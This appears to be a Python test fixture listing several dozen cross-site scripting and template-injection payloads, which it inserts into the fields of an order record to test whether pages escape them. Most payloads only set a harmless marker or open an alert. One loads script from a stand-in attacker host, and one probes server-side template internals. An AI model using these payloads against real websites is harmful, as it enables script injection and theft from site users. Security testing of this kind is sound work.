"""Sixty ways to make a page run what it should only show. Each would set `window.pwned` or open a dialog."""

from __future__ import annotations

from collections.abc import Sequence
from itertools import cycle, islice
from typing import Any

RUN = "window.pwned=1,alert(1)"

_TAGS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror=`{run}`>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<button formaction=javascript:{run}>x</button>",
    "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=javascript:{run}//>",
    "<link rel=stylesheet href=data:text/css,*{{background:url(javascript:{run})}}>",
    "<style>@import 'javascript:{run}';</style>",
    "<p style=background:url(javascript:{run})>x</p>",
    "<marquee onstart={run}>x</marquee>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<div onpointerrawupdate={run} onmouseover={run}>x</div>",
    "<custom-tag onanimationstart={run}>",
)
_BREAKS = (
    "'\"><script>{run}</script>",
    '"><img src=x onerror={run}>',
    "'><svg onload={run}>",
    '" autofocus onfocus={run} x="',
    "' autofocus onfocus={run} x='",
    "`><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</script><script>{run}</script>",
    "</option></select><img src=x onerror={run}>",
    "]]><script>{run}</script>",
    "--><script>{run}</script>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
)
_TEMPLATES = (
    "{{{{ 7919*7907 }}}}{{{{ self.__init__.__globals__ }}}}",
    "{{% raw %}}<script>{run}</script>{{% endraw %}}",
    "${{{run}}}",
    "<%= {run} %>",
    "[x](javascript:{run})",
    "![x](x'onerror={run})",
    '<a hx-get="/" hx-on::load="{run}">x</a>',
    '"hx-on:load="{run}" hx-trigger="load',
    "&lt;script&gt;{run}&lt;/script&gt;",
    "\u003cscript\u003e{run}\u003c/script\u003e//",
)

PAYLOADS = tuple(one.format(run=RUN) for one in (*_TAGS, *_BREAKS, *_TEMPLATES))

#: fields of an order that pages show
SLOTS = 10


def poisoned_fields(attacks: Sequence[str]) -> dict[str, Any]:
    """An order's fields, each with the next of the attacks as far as its bounds let it in."""
    a, b, c, d, e, f, g, h, i, j = islice(cycle(attacks), SLOTS)
    return {
        "goal": f"{a}....."[:240],
        "audience": f"{b}....."[:240],
        "constraints": f"{c}....."[:240],
        "pain_point": d[:280],
        "agent_name": e[:100],
        "agent_on_behalf_of": f[:200],
        "notes": g[:500],
        "billing": {"company_name": h[:200], "address": i[:500], "contact_person": j[:120]},
    }
